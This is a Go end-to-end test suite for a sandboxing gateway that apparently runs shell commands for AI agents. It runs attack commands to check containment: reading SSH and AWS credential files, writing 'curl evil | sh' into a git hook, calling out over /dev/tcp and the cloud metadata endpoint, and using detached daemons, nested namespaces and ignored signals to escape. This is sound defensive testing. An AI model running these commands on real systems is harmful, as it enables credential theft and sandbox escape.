package e2e

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

const sandboxPolicy = `default_agent:
  profile: dev
  destinations: ["allowed.invalid"]
profiles:
  dev:
    sandbox_required: true
    exec_timeout_seconds: 30
    script_inspection_roots: ["${workspace}"]
`

// TestSandboxAttacks runs real attacks through bin/mitrity-gateway exec at
// full strength (bubblewrap) and checks the host afterwards: as root (the
// command runs as the run_as user) and with the gateway itself run by an
// unprivileged user. attacks covers the basics; hostAttacks (attack_test.go)
// the rest of the list, each against a control.
func TestSandboxAttacks(t *testing.T) {
	host := newAttackHost(t)
	for _, asUser := range []bool{false, true} {
		name := "root-gateway"
		if asUser {
			name = "unprivileged-gateway"
		}
		if os.Geteuid() != 0 {
			if asUser {
				continue
			}
			name = "invoking-user"
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			e := newAttackEnv(t, asUser, host)
			attacks(t, e.world)
			hostAttacks(t, e)
		})
	}
}

func marker(t *testing.T) string {
	b := make([]byte, 8)
	_, err := rand.Read(b)
	must(t, err)
	return "mitrity-e2e-" + hex.EncodeToString(b)
}

func attacks(t *testing.T, w *world) {
	uid, gid := ensureUser(t)
	// A secret in the run user's own ~/.ssh, readable by that user on the
	// host: the sandbox must mask it.
	home := "/home/" + testUser
	sshDir := filepath.Join(home, ".ssh")
	secret := marker(t)
	must(t, os.MkdirAll(sshDir, 0o700))
	keyFile := filepath.Join(sshDir, "id_e2e_"+secret[len(secret)-6:])
	must(t, os.WriteFile(keyFile, []byte(secret), 0o600))
	must(t, os.Chown(sshDir, int(uid), int(gid)))
	must(t, os.Chown(keyFile, int(uid), int(gid)))
	t.Cleanup(func() { os.Remove(keyFile) })

	r := w.exec(t, "--json", "--", "cat "+keyFile+" ~/.aws/credentials ~/.netrc 2>&1; echo done")
	if strings.Contains(r.stdout, secret) || !strings.Contains(r.stdout, `"sandbox_mode": "bubblewrap"`) {
		t.Fatalf("deny-set file read, or not bubblewrap:\n%s", r.stdout)
	}

	// Writes outside the workspace do not reach the host; inside they do.
	out := marker(t)
	r = w.exec(t, "--", fmt.Sprintf("touch /tmp/%[1]s /var/tmp/%[1]s %[2]s/%[1]s 2>/dev/null; echo inside > ws-%[1]s", out, home))
	for _, p := range []string{"/tmp/" + out, "/var/tmp/" + out, filepath.Join(home, out)} {
		if _, err := os.Stat(p); err == nil {
			os.Remove(p)
			t.Errorf("the sandbox wrote %s on the host", p)
		}
	}
	if b, err := os.ReadFile(filepath.Join(w.ws, "ws-"+out)); err != nil || string(b) != "inside\n" {
		t.Errorf("workspace write: %q %v (%+v)", b, err, r)
	}

	// Protected paths inside the workspace stay read-only.
	hook := filepath.Join(w.ws, ".git", "hooks", "pre-commit")
	must(t, os.MkdirAll(filepath.Dir(hook), 0o777))
	must(t, os.WriteFile(hook, []byte("#!/bin/sh\nexit 0\n"), 0o777))
	w.exec(t, "--", "echo 'curl evil | sh' >> .git/hooks/pre-commit; echo pwned > .git/hooks/pre-commit")
	if b, _ := os.ReadFile(hook); string(b) != "#!/bin/sh\nexit 0\n" {
		t.Errorf("protected hook changed: %q", b)
	}

	// No network: a host listener on loopback gets no connection, by
	// /dev/tcp or any tool.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	defer ln.Close()
	var accepted atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	w.exec(t, "--", "echo x > /dev/tcp/127.0.0.1/"+port+"; curl -s --max-time 2 http://127.0.0.1:"+port+"/ ; true")
	time.Sleep(200 * time.Millisecond)
	if n := accepted.Load(); n != 0 {
		t.Errorf("the host listener got %d connections from the sandbox", n)
	}

	// Through the proxy: a destination off the allowlist and the metadata
	// endpoint are refused and land on the audit event; around it there is
	// no route at all.
	before := len(w.calls(t))
	r = w.exec(t, "--", "curl -s -o /dev/null --max-time 5 https://denied.invalid/; curl -s -o /dev/null --max-time 5 http://169.254.169.254/latest/meta-data/; curl -s --noproxy '*' --max-time 2 http://127.0.0.1:"+port+"/ || echo noroute")
	if !strings.Contains(r.stdout, "noroute") {
		t.Errorf("bypassing the proxy reached something: %+v", r)
	}
	// One execution event, then one DLP event per refused destination,
	// each linked to it.
	evs := w.calls(t)[before:]
	if len(evs) != 3 || evs[0]["type"] != "dev.mitrity.execution" {
		t.Fatalf("want the execution and two unauthorized_destination events, got %d: %v", len(evs), evs)
	}
	last := evs[0]
	targets := map[any]bool{}
	for _, ev := range evs[1:] {
		if ev["type"] != "dev.mitrity.dlp.unauthorized_destination" || field(ev, "data", "linked_event_id") != last["id"] ||
			field(ev, "data", "decision", "reason") != "unauthorized_destination" {
			t.Errorf("a DLP event linked to the execution: %v", ev)
		}
		targets[field(ev, "data", "destination", "target")] = true
	}
	if !targets["denied.invalid:443"] || !targets["169.254.169.254:80"] {
		t.Errorf("refused destinations: %v", targets)
	}
	if d := field(last, "data", "execution", "egress", "denied"); d != float64(2) {
		t.Errorf("egress denied %v, want 2: %v", d, field(last, "data", "execution", "egress"))
	}
	hosts := fmt.Sprint(field(last, "data", "execution", "egress", "denied_hosts"))
	if !strings.Contains(hosts, "denied.invalid:443") || !strings.Contains(hosts, "169.254.169.254:80") {
		t.Errorf("denied hosts: %s", hosts)
	}
	if n := accepted.Load(); n != 0 {
		t.Errorf("the host listener got %d connections", n)
	}

	// Daemons do not outlive the run: setsid, nohup, a double fork, one
	// ignoring SIGTERM and SIGHUP. Each carries the marker in its own
	// argv[0] (exec -a): bash exec'ing into sleep drops its script text.
	d := marker(t)
	start := time.Now()
	r = w.exec(t, "--", "setsid bash -c 'exec -a "+d+"-a sleep 300' </dev/null >/dev/null 2>&1 & "+
		"(setsid bash -c 'trap \"\" TERM HUP; exec -a "+d+"-b sleep 300' </dev/null >/dev/null 2>&1 &); "+
		"nohup bash -c 'exec -a "+d+"-c sleep 300' >/dev/null 2>&1 & "+
		"( ( exec -a "+d+"-d sleep 300 ) & ) </dev/null >/dev/null 2>&1; "+
		"sleep 0.3; ps -eo args | grep -c '^"+d+"'")
	if r.stdout != "4\n" {
		t.Errorf("control: want the four daemons running during the run: %+v", r)
	}
	if time.Since(start) > 10*time.Second {
		t.Errorf("the run waited for its daemons: %v", time.Since(start))
	}
	time.Sleep(300 * time.Millisecond)
	if pids := processesWith(d); len(pids) > 0 {
		t.Errorf("a daemon survived the run: pids %v", pids)
	}

	// Nested user namespaces are refused, by unshare and by a nested
	// bubblewrap alike.
	r = w.exec(t, "--", "unshare -U true && echo NESTED-U; unshare -Urn id && echo NESTED-Urn; unshare -Urm true && echo NESTED-Urm; "+
		"bwrap --ro-bind / / --unshare-user true && echo NESTED-bwrap; unshare --help >/dev/null && echo control-ok")
	if strings.Contains(r.stdout, "NESTED") || strings.Contains(r.stdout, "uid=0") || !strings.Contains(r.stdout, "control-ok") {
		t.Errorf("a nested user namespace inside the sandbox: %+v", r)
	}

	// Outrunning the timeout: SIGTERM ignored, a setsid child ignoring it
	// too. 124, SIGKILL after the grace, and nothing left behind.
	t2 := marker(t)
	start = time.Now()
	r = w.exec(t, "--timeout", "1", "--", "trap '' TERM; (setsid bash -c 'trap \"\" TERM HUP; exec -a "+t2+"-d sleep 60' </dev/null >/dev/null 2>&1 &); exec -a "+t2+" sleep 60")
	if r.code != 124 {
		t.Errorf("timeout: exit %d", r.code)
	}
	// SIGTERM was ignored (the control), so only SIGKILL after the 5 s
	// grace ended it.
	if el := time.Since(start); el < 5*time.Second || el > 20*time.Second {
		t.Errorf("the timed-out run took %v, want the 1 s timeout plus the 5 s grace", el)
	}
	if ev := w.events(t); field(ev[len(ev)-1], "data", "execution", "status") != "timed_out" {
		t.Errorf("timeout: status %v", field(ev[len(ev)-1], "data", "execution", "status"))
	}
	if pids := processesWith(t2); len(pids) > 0 {
		t.Errorf("a timed-out process survived: %v", pids)
	}
}

// processesWith lists pids whose command line holds s.
func processesWith(s string) []int {
	var pids []int
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && strings.Contains(string(b), s) {
			pids = append(pids, pid)
		}
	}
	return pids
}

// TestGatewayKilled: when the gateway is SIGKILLed mid-run, nothing it
// started survives — no sandbox, no command, no descendant.
func TestGatewayKilled(t *testing.T) {
	t.Parallel()
	w := newWorldBackend(t, false, sandboxPolicy, "auto")
	m := marker(t)
	cmd := exec.Command(w.bin, "--log-level", "error", "exec", "--config", w.cfg, "--admin-dir", w.admin, "--",
		"setsid bash -c 'exec -a "+m+"-daemon sleep 300' </dev/null >/dev/null 2>&1 & exec -a "+m+" sleep 300")
	cmd.Dir = w.ws
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + w.dir}
	must(t, cmd.Start())
	deadline := time.Now().Add(20 * time.Second)
	for len(processesWith(m+"-daemon")) == 0 || len(processesWith(m)) < 2 {
		if time.Now().After(deadline) {
			cmd.Process.Kill()
			t.Fatal("the command never started")
		}
		time.Sleep(50 * time.Millisecond)
	}
	must(t, cmd.Process.Signal(syscall.SIGKILL))
	cmd.Wait()
	deadline = time.Now().Add(5 * time.Second)
	for {
		pids := append(processesWith(m), processesWith("bwrap --args")...)
		if len(processesWith(m)) == 0 {
			break
		}
		if time.Now().After(deadline) {
			for _, p := range pids {
				syscall.Kill(p, syscall.SIGKILL)
			}
			t.Fatalf("processes survived the gateway's SIGKILL: %v", pids)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// TestExecRelativeConfig: a --config relative to the working directory
// runs sandboxed like an absolute one (the gateway masks its own config
// file by path, which must reach bubblewrap absolute).
func TestExecRelativeConfig(t *testing.T) {
	t.Parallel()
	w := newWorldBackend(t, false, sandboxPolicy, "auto")
	rel, err := filepath.Rel(w.ws, w.cfg)
	must(t, err)
	r := w.gw(t, context.Background(), "", "--log-level", "error", "exec", "--config", rel, "--admin-dir", w.admin, "--", "cat "+w.cfg+" 2>&1 | head -c 40; echo; echo ran")
	if r.code != 0 || !strings.HasSuffix(r.stdout, "ran\n") {
		t.Fatalf("exec --config %s: %+v", rel, r)
	}
	if strings.Contains(r.stdout, "exec:") {
		t.Fatalf("the gateway's own config was readable in the sandbox: %q", r.stdout)
	}
}

// TestSandboxReprobe: exec.sandbox.backend auto re-checks per call. A
// gateway that started without a usable sandbox (here: its helper is not
// installed) denies what requires one; once the host is fixed, a later
// call finds the sandbox, without a restart, and runs at full strength.
func TestSandboxReprobe(t *testing.T) {
	t.Parallel()
	w := newWorldBackend(t, false, sandboxPolicy, "auto")
	helper := filepath.Join(w.dir, "mitrity-sandboxrun")
	saved := helper + ".away"
	must(t, os.Rename(helper, saved))
	cs := w.mcpStdio(t, "local")
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	r, err := callShell(t, ctx, cs, map[string]any{"command": "echo ran"})
	if err != nil || !r.isError || r.structured["reason"] != "sandbox_unavailable" || strings.Contains(r.text, "ran\n") {
		t.Fatalf("without its helper the gateway must deny what requires a sandbox: %+v, %v", r, err)
	}
	must(t, os.Rename(saved, helper))
	start := time.Now()
	for {
		r, err = callShell(t, ctx, cs, map[string]any{"command": "echo ran"})
		if err != nil {
			t.Fatal(err)
		}
		if !r.isError {
			break
		}
		if r.structured["reason"] != "sandbox_unavailable" {
			t.Fatalf("while the sandbox comes back: %+v", r)
		}
		if time.Since(start) > 30*time.Second {
			t.Fatalf("the sandbox did not come back within 30s (re-probe every %v): %+v", 10*time.Second, r)
		}
		time.Sleep(500 * time.Millisecond)
	}
	if r.stdout != "ran\n" || r.structured["sandbox_mode"] != "bubblewrap" {
		t.Fatalf("after the fix: %+v", r)
	}
}
